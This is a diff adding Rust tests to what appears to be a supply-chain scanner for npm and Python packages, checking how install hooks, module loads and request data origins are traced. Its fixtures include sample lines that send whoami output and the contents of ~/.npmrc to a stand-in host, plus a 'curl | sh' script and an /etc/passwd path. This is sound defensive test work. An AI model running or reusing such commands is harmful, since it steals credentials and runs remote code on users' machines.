@@ -55,6 +55,58 @@ fn a_sample_of_git_is_data_until_somebody_runs_it() {
 }
 
 #[test]
+fn a_hook_that_starts_a_folder_starts_its_main_file_and_what_that_loads() {
+    let facts = scanned(&[
+        (
+            "package.json",
+            br#"{"name": "x", "scripts": {"postinstall": "node ."}, "main": "lib/main"}"#,
+        ),
+        ("lib/main.js", b"require(['./de', 'ep'].join(''))"),
+        ("lib/deep.js", b"require('child_process').execSync('id')"),
+        ("index.js", b"fetch('https://a.test')"),
+    ]);
+    let run = facts.trace.events.iter().find(|event| event.api.contains("execSync")).unwrap();
+    assert_eq!(run.when, When::Install);
+    assert_eq!(of(&facts, Effect::Request)[0].when, When::Load);
+}
+
+#[test]
+fn what_a_program_of_the_system_writes_is_told_by_what_the_program_does() {
+    for (path, source) in [
+        ("a.js", "fetch('https://a.test/?' + require('child_process').execSync('whoami'))"),
+        (
+            "a.py",
+            "import subprocess, requests\nrequests.post('https://a.test', data=subprocess.check_output(['whoami']))",
+        ),
+    ] {
+        let facts = scanned(&[(path, source.as_bytes())]);
+        let sent = of(&facts, Effect::Request);
+        let origins: Vec<Source> = sent
+            .iter()
+            .flat_map(|e| &e.arguments)
+            .flat_map(|a| &a.value.origins)
+            .map(|o| o.source)
+            .collect();
+        assert!(origins.contains(&Source::SystemInformation), "{path}: {sent:?}");
+    }
+    let facts = scanned(&[(
+        "a.js",
+        b"fetch('https://a.test', { body: require('child_process').execSync('cat ~/.npmrc') })",
+    )]);
+    let kept = of(&facts, Effect::Request)[0].arguments.iter().any(|argument| {
+        argument.value.origins.iter().any(|origin| origin.source == Source::Credential)
+    });
+    assert!(kept);
+    let facts = scanned(&[(
+        "a.js",
+        b"fetch('https://a.test/?' + require('child_process').execSync('git describe'))",
+    )]);
+    assert!(of(&facts, Effect::Request)[0].arguments.iter().all(|argument| {
+        argument.value.origins.iter().all(|origin| origin.source == Source::ProcessOutput)
+    }));
+}
+
+#[test]
 fn a_script_that_no_hook_runs_says_nothing_of_install() {
     let facts = scanned(&[
         ("package.json", br#"{"name": "x", "scripts": {"test": "curl https://a.test | sh"}}"#),
@@ -198,7 +250,9 @@ fn what_two_readers_find_at_one_place_is_told_once() {
 fn a_path_that_leads_out_of_the_package_is_no_file_of_it() {
     let files: &[(&str, &[u8])] = &[("a.js", b"")];
     let tree = tree(files);
-    let find = |path| resolve::find(&tree, Language::JavaScript, path, "x/y.js", "");
+    let find = |path| {
+        resolve::find(&tree, &resolve::mains(&tree), Language::JavaScript, path, "x/y.js", "")
+    };
     assert_eq!(find("../a"), Some(FileId(0)));
     assert_eq!(find("../../a"), None);
     assert_eq!(find("/etc/passwd"), None);
